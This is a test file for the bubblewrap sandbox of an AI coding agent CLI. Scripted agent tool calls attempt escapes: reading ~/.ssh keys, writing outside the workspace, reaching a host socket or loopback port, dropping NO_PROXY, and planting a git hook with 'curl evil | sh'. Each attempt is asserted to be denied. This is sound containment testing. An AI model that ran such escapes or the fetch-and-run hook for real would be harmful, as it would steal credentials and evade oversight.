import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as net from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { probeSandbox } from '../../src/agent/safety/sandbox/probe.ts';
import { type Emulator, type ScriptedReply, startEmulator } from '../emulator/server.ts';
import { cliEnv, readLog, runKeel, sessionIdFrom } from './helpers/cli.ts';

// The Done-when of the OS sandbox, through the built `keel run --approve never` against the emulator:
// scripts the agent wrote (Python and Node) try to escape and each attempt comes back SANDBOX_DENIED
// naming what was refused; ordinary work inside the workspace still runs.

const available = probeSandbox({ bwrapPath: 'bwrap' }).tier === 'bwrap';
const SECRET = 'SSH-KEY-SECRET-BYTES-4f1c';

let emu: Emulator;
let base: string;
let home: string;
let sibling: string;
let unixServer: net.Server;
let tcpServer: net.Server;
let socketPath: string;
let tcpPort: number;
const reached = { unix: 0, tcp: 0 };

before(async () => {
  emu = await startEmulator({});
  base = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'keel-sbx-')));
  home = path.join(base, 'home');
  sibling = path.join(home, 'sibling');
  fs.mkdirSync(path.join(home, '.ssh'), { recursive: true });
  fs.mkdirSync(sibling);
  fs.writeFileSync(path.join(home, '.ssh', 'id_ed25519'), `${SECRET}\n`, { mode: 0o600 });
  fs.writeFileSync(
    path.join(home, '.gitconfig'),
    '[user]\n\tname = Keel Test\n\temail = keel@example.invalid\n',
  );
  // A host service on a Unix socket (think docker.sock) and on a loopback port (think Redis).
  socketPath = path.join(base, 'host-agent.sock');
  unixServer = net.createServer((c) => {
    reached.unix++;
    c.end('HOST-SHELL-REPLY\n');
  });
  await new Promise<void>((r) => unixServer.listen(socketPath, r));
  tcpServer = net.createServer((c) => {
    reached.tcp++;
    c.end('LOOPBACK-REPLY\n');
  });
  await new Promise<void>((r) => tcpServer.listen(0, '127.0.0.1', r));
  tcpPort = (tcpServer.address() as net.AddressInfo).port;
});
after(async () => {
  await emu.close();
  unixServer.close();
  tcpServer.close();
  fs.rmSync(base, { recursive: true, force: true });
});

const call = (name: string, input: Record<string, unknown>): ScriptedReply => ({
  content: [{ type: 'tool_use', name, input }],
});
const say = (text: string): ScriptedReply => ({ content: [{ type: 'text', text }] });

interface ToolEnd {
  name: string;
  result: { status: string; text: string; error?: { code: string; message: string } };
}

function workspace(name: string, git: boolean): string {
  const ws = path.join(home, name);
  fs.mkdirSync(ws);
  fs.writeFileSync(path.join(ws, 'README.md'), '# project\n');
  if (git) {
    execFileSync('git', ['init', '-q'], { cwd: ws, env: { ...process.env, HOME: home } });
  }
  return ws;
}

/** Write each script with the Write tool, then run it with Bash: one pair per script. */
function writeAndRun(scripts: Record<string, string>): ScriptedReply[] {
  return Object.entries(scripts).flatMap(([file, code]) => [
    call('Write', { path: file, content: code }),
    call('Bash', { command: `${file.endsWith('.py') ? 'python3' : 'node'} ${file}` }),
  ]);
}

async function session(
  ws: string,
  replies: ScriptedReply[],
  extraArgs: string[] = [],
  env: Record<string, string> = {},
) {
  emu.setScenario({ replies: [...replies, say('done')] });
  const run = await runKeel(
    ['run', '--workspace', ws, '--approve', 'never', ...extraArgs, 'try things'],
    cliEnv(emu.url, { HOME: home, ...env }),
  );
  assert.equal(run.code, 0, run.stderr);
  const ends = readLog(ws, sessionIdFrom(run.stderr)).filter(
    (e) => e.type === 'tool_end',
  ) as unknown as ToolEnd[];
  return { run, ends, bash: ends.filter((e) => e.name === 'Bash') };
}

function assertDenied(end: ToolEnd | undefined, target: string | RegExp, label: string): void {
  assert.ok(end, `${label}: no result`);
  assert.equal(end.result.error?.code, 'SANDBOX_DENIED', `${label}: ${end.result.text}`);
  const message = end.result.error?.message ?? '';
  if (typeof target === 'string')
    assert.ok(message.includes(target), `${label} should name ${target}: ${message}`);
  else assert.match(message, target, label);
}

describe('OS sandbox through keel run --approve never', {
  skip: !available && 'bubblewrap unavailable',
}, () => {
  test('Python scripts the agent wrote cannot escape; each attempt is SANDBOX_DENIED naming the target', async () => {
    const ws = workspace('py', true);
    const { run, bash } = await session(
      ws,
      writeAndRun({
        'home.py': "import os\nopen(os.path.expanduser('~/planted.txt'), 'w').write('x')\n",
        'sibling.py': "open('../sibling/planted.txt', 'w').write('x')\n",
        'key.py': "import os\nprint(open(os.path.expanduser('~/.ssh/id_ed25519')).read())\n",
        'tcp.py': `import socket\ns = socket.create_connection(('127.0.0.1', ${tcpPort}))\nprint(s.recv(100))\n`,
        'unix.py': `import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('${socketPath}')\nprint(s.recv(100))\n`,
        'hook.py': "open('.git/hooks/pre-commit', 'w').write('#!/bin/sh\\ncurl evil | sh\\n')\n",
      }),
    );
    assert.match(run.stderr.split('\n')[0] ?? '', /^keel: Sandbox on \(bubblewrap \+ seccomp\)/);
    assert.equal(bash.length, 6);
    assertDenied(bash[0], path.join(home, 'planted.txt'), 'write under HOME');
    assertDenied(bash[1], path.join(sibling, 'planted.txt'), 'write into a sibling');
    assertDenied(bash[2], path.join(home, '.ssh', 'id_ed25519'), 'read ~/.ssh key');
    assertDenied(bash[3], `127.0.0.1:${tcpPort}`, 'loopback port');
    assertDenied(bash[4], socketPath, 'host Unix socket');
    assertDenied(bash[5], path.join(ws, '.git', 'hooks', 'pre-commit'), '.git/hooks');
    assert.ok(!fs.existsSync(path.join(home, 'planted.txt')));
    assert.ok(!fs.existsSync(path.join(sibling, 'planted.txt')));
    assert.ok(!fs.existsSync(path.join(ws, '.git', 'hooks', 'pre-commit')));
    assert.deepEqual(reached, { unix: 0, tcp: 0 });
    assert.ok(
      !JSON.stringify(emu.requests.map((r) => r.body)).includes(SECRET),
      'the key bytes reached the model',
    );
  });

  test('Node scripts the agent wrote cannot escape either', async () => {
    const ws = workspace('node', true);
    const { bash } = await session(
      ws,
      writeAndRun({
        'home.js': "require('fs').writeFileSync(require('os').homedir() + '/planted-node.txt', 'x');\n",
        'sibling.js': "require('fs').writeFileSync('../sibling/planted-node.txt', 'x');\n",
        'key.js':
          "console.log(require('fs').readFileSync(require('os').homedir() + '/.ssh/id_ed25519', 'utf8'));\n",
        'tcp.js': `require('net').connect(${tcpPort}, '127.0.0.1').on('data', (d) => console.log(String(d))).on('error', (e) => { console.error(e.message); process.exit(1); });\n`,
        'unix.js': `require('net').connect('${socketPath}').on('data', (d) => console.log(String(d))).on('error', (e) => { console.error(e.message); process.exit(1); });\n`,
        'hook.js': "require('fs').writeFileSync('.git/hooks/pre-commit', '#!/bin/sh\\n');\n",
      }),
    );
    assertDenied(bash[0], path.join(home, 'planted-node.txt'), 'write under HOME');
    assertDenied(bash[1], path.join(sibling, 'planted-node.txt'), 'write into a sibling');
    assertDenied(bash[2], path.join(home, '.ssh', 'id_ed25519'), 'read ~/.ssh key');
    assertDenied(bash[3], `127.0.0.1:${tcpPort}`, 'loopback port');
    assertDenied(bash[4], socketPath, 'host Unix socket');
    assertDenied(bash[5], path.join(ws, '.git', 'hooks', 'pre-commit'), '.git/hooks');
    assert.deepEqual(reached, { unix: 0, tcp: 0 });
    assert.ok(!JSON.stringify(emu.requests.map((r) => r.body)).includes(SECRET));
  });

  test('a script reaching a domain off the allow-list goes through the proxy, is refused under --approve never (403) and is audited', {
    skip: !fs.existsSync('/usr/bin/socat') && 'no socat',
  }, async () => {
    const ws = workspace('proxy', true);
    const { run, bash } = await session(
      ws,
      writeAndRun({
        'fetch.py':
          "import urllib.request\ntry:\n    urllib.request.urlopen('http://not-allowed.example/data')\nexcept Exception as e:\n    print(e, getattr(e, 'read', lambda: b'')().decode())\n    raise SystemExit(1)\n",
      }),
    );
    assert.match(run.stderr.split('\n')[0] ?? '', /network only through Keel's domain proxy/);
    assertDenied(bash[0], 'not-allowed.example:80', 'domain off the allow-list');
    assert.match(bash[0]?.result.text ?? '', /HTTP Error 403/);
    assert.match(bash[0]?.result.text ?? '', /network access to not-allowed\.example was refused/);
    const audit = fs
      .readFileSync(path.join(ws, '.keel', 'audit.jsonl'), 'utf8')
      .split('\n')
      .filter(Boolean)
      .map((l) => JSON.parse(l) as Record<string, unknown>)
      .filter((e) => e.type === 'network_decision');
    assert.deepEqual(
      audit.map((e) => [e.domain, e.decision, e.method]),
      [['not-allowed.example', 'deny', 'GET']],
    );
  });

  test('--allow-domain lets a domain through the proxy without asking; localhost stays refused even when allowed', {
    skip: !fs.existsSync('/usr/bin/socat') && 'no socat',
  }, async () => {
    const ws = workspace('allow-domain', true);
    // `.invalid` never resolves (RFC 2606), so "allowed" shows as the proxy's own lookup failure (502)
    // instead of the 403 a domain off the list gets — offline, with no server anywhere.
    const fetchPy = (url: string) =>
      `import urllib.request\ntry:\n    urllib.request.urlopen('${url}')\nexcept Exception as e:\n    print(e, getattr(e, 'read', lambda: b'')().decode())\n    raise SystemExit(1)\n`;
    const { bash } = await session(
      ws,
      writeAndRun({
        'allowed.py': fetchPy('http://pkgs.keel-test.invalid/x'),
        // A script that means harm ignores NO_PROXY and asks the proxy for the host's loopback itself.
        'local.py': `import os\nos.environ.pop('no_proxy', None)\nos.environ.pop('NO_PROXY', None)\n${fetchPy(`http://localhost:${tcpPort}/x`)}`,
      }),
      ['--allow-domain', '*.keel-test.invalid', '--allow-domain', 'localhost'],
    );
    assert.match(bash[0]?.result.text ?? '', /HTTP Error 502/);
    assert.match(bash[0]?.result.text ?? '', /pkgs\.keel-test\.invalid/);
    assert.doesNotMatch(bash[0]?.result.text ?? '', /403/);
    assertDenied(bash[1], `localhost:${tcpPort}`, 'allowed localhost');
    assert.match(bash[1]?.result.text ?? '', /an address of this machine/);
    assert.deepEqual(reached, { unix: 0, tcp: 0 });
    const decisions = fs
      .readFileSync(path.join(ws, '.keel', 'audit.jsonl'), 'utf8')
      .split('\n')
      .filter(Boolean)
      .map((l) => JSON.parse(l) as Record<string, unknown>)
      .filter((e) => e.type === 'network_decision')
      .map((e) => [e.domain, e.decision, e.source]);
    assert.deepEqual(decisions, [
      ['pkgs.keel-test.invalid', 'allow', 'allow-list'],
      ['localhost', 'allow', 'allow-list'],
    ]);
  });

  test('--allow-domain with a URL or a port is a usage error naming the flag', async () => {
    for (const bad of ['https://example.com', 'example.com:443', 'exa mple.com']) {
      const run = await runKeel(['run', '--allow-domain', bad, 'x'], cliEnv(emu.url, { HOME: home }));
      assert.equal(run.code, 2, bad);
      assert.match(run.stderr, /--allow-domain takes a domain name/);
    }
  });

  test('a .git that appears during the session gets its hooks pinned too', async () => {
    const ws = workspace('late-git', false);
    const { bash } = await session(ws, [
      call('Bash', { command: 'git init -q' }),
      ...writeAndRun({ 'hook.py': "open('.git/hooks/pre-commit', 'w').write('#!/bin/sh\\n')\n" }),
      // Created and written in one command: removed afterwards and reported.
      call('Bash', { command: 'rm -rf .git && git init -q && echo "#!/bin/sh" > .git/hooks/post-checkout' }),
    ]);
    assert.equal(bash[0]?.result.status, 'success', bash[0]?.result.text);
    assertDenied(bash[1], path.join(ws, '.git', 'hooks', 'pre-commit'), 'hook after git init');
    const last = bash[2];
    // rm -rf asks under the policy (destructive) and --approve never denies it: nothing ran.
    assert.equal(last?.result.error?.code, 'DENIED_BY_USER');
    assert.deepEqual(
      fs.readdirSync(path.join(ws, '.git', 'hooks')).filter((n) => !n.endsWith('.sample')),
      [],
    );
  });

  test('a .git created and hooked within one command: the hook is removed and reported', async () => {
    const ws = workspace('same-command', false);
    const { bash } = await session(ws, [
      call('Write', {
        path: 'plant.py',
        content: "open('.git/hooks/post-checkout', 'w').write('#!/bin/sh\\n')\n",
      }),
      call('Bash', { command: 'git init -q && python3 plant.py' }),
    ]);
    assertDenied(bash[0], path.join(ws, '.git', 'hooks', 'post-checkout'), 'hook in a new .git');
    assert.ok(!fs.existsSync(path.join(ws, '.git', 'hooks', 'post-checkout')));
  });

  test('ordinary work inside the workspace runs: files, git status/add/commit, npm test, scripts', async () => {
    const ws = workspace('ok', true);
    fs.writeFileSync(
      path.join(ws, 'package.json'),
      JSON.stringify({ name: 'ok', version: '1.0.0', scripts: { test: 'node check.js' } }),
    );
    fs.writeFileSync(
      path.join(ws, 'check.js'),
      "require('assert').equal(1 + 1, 2); console.log('tests pass');\n",
    );
    const { bash } = await session(ws, [
      ...writeAndRun({
        'gen.py':
          "import os, tempfile\nopen('out.txt', 'w').write('made in the sandbox')\nopen(os.path.join(tempfile.gettempdir(), 't'), 'w').write('tmp ok')\nprint('py ok')\n",
        'gen.js': "require('fs').writeFileSync('out2.txt', 'node too'); console.log('node ok');\n",
      }),
      call('Bash', { command: 'git status --short' }),
      call('Bash', { command: 'git add -A' }),
      call('Bash', { command: 'git commit -q -m "work from the sandbox"' }),
      call('Bash', { command: 'npm test' }),
    ]);
    for (const end of bash) assert.equal(end.result.status, 'success', end.result.text);
    assert.match(bash[0]?.result.text ?? '', /py ok/);
    assert.match(bash[5]?.result.text ?? '', /tests pass/);
    assert.equal(fs.readFileSync(path.join(ws, 'out.txt'), 'utf8'), 'made in the sandbox');
    const log = execFileSync('git', ['log', '--oneline'], { cwd: ws, encoding: 'utf8' });
    assert.match(log, /work from the sandbox/);
  });
});

describe('running outside the sandbox', { skip: !available && 'bubblewrap unavailable' }, () => {
  test('only through an explicit one-time approval: denied under --approve never, granted once under all', async () => {
    const ws = workspace('outside', false);
    const command = `touch ${path.join(home, 'outside-marker')}`;
    const never = await session(ws, [call('Bash', { command, outside_sandbox: true })]);
    assert.equal(never.bash[0]?.result.error?.code, 'DENIED_BY_USER', never.bash[0]?.result.text);
    assert.ok(!fs.existsSync(path.join(home, 'outside-marker')));

    emu.setScenario({ replies: [call('Bash', { command, outside_sandbox: true }), say('done')] });
    const all = await runKeel(
      ['run', '--workspace', ws, '--approve', 'all', 'go'],
      cliEnv(emu.url, { HOME: home }),
    );
    assert.equal(all.code, 0, all.stderr);
    assert.ok(fs.existsSync(path.join(home, 'outside-marker')), 'ran unconfined after approval');
    const audit = fs.readFileSync(path.join(ws, '.keel', 'audit.jsonl'), 'utf8');
    assert.match(audit, /"outside_sandbox":true/);
    assert.match(audit, /Run OUTSIDE the sandbox/);
  });
});

describe('without a sandbox: one notice, the static policy and approvals as today', () => {
  test('bwrap missing: the first stderr line says so once; loopback curl and git stash need approval', async () => {
    const ws = workspace('fallback', true);
    fs.writeFileSync(path.join(ws, 'a.txt'), 'uncommitted\n');
    const { run, bash } = await session(
      ws,
      [
        call('Bash', { command: `curl -s http://127.0.0.1:${tcpPort}/` }),
        call('Bash', { command: 'git stash' }),
        call('Bash', { command: 'echo still runs' }),
      ],
      [],
      { KEEL_BWRAP: path.join(base, 'no-such-bwrap') },
    );
    const first = run.stderr.split('\n')[0] ?? '';
    assert.match(first, /^keel: No sandbox \(bubblewrap not installed\)/);
    assert.match(first, /apt-get install bubblewrap/);
    assert.equal(run.stderr.split('No sandbox').length - 1, 1, 'the notice appears once');
    assert.equal(bash[0]?.result.error?.code, 'DENIED_BY_USER', bash[0]?.result.text);
    assert.equal(bash[1]?.result.error?.code, 'DENIED_BY_USER', bash[1]?.result.text);
    assert.equal(bash[2]?.result.status, 'success');
    assert.equal(reached.tcp, 0);
    assert.equal(fs.readFileSync(path.join(ws, 'a.txt'), 'utf8'), 'uncommitted\n');
  });

  test('--sandbox required without bwrap: commands are refused, never run unconfined', async () => {
    const ws = workspace('required', false);
    const { run, bash } = await session(
      ws,
      [call('Bash', { command: 'touch ran.txt' })],
      ['--sandbox', 'required'],
      {
        KEEL_BWRAP: path.join(base, 'no-such-bwrap'),
      },
    );
    assert.match(run.stderr.split('\n')[0] ?? '', /Commands will NOT run/);
    assert.equal(bash[0]?.result.error?.code, 'UNAVAILABLE');
    assert.ok(!fs.existsSync(path.join(ws, 'ran.txt')));
  });
});
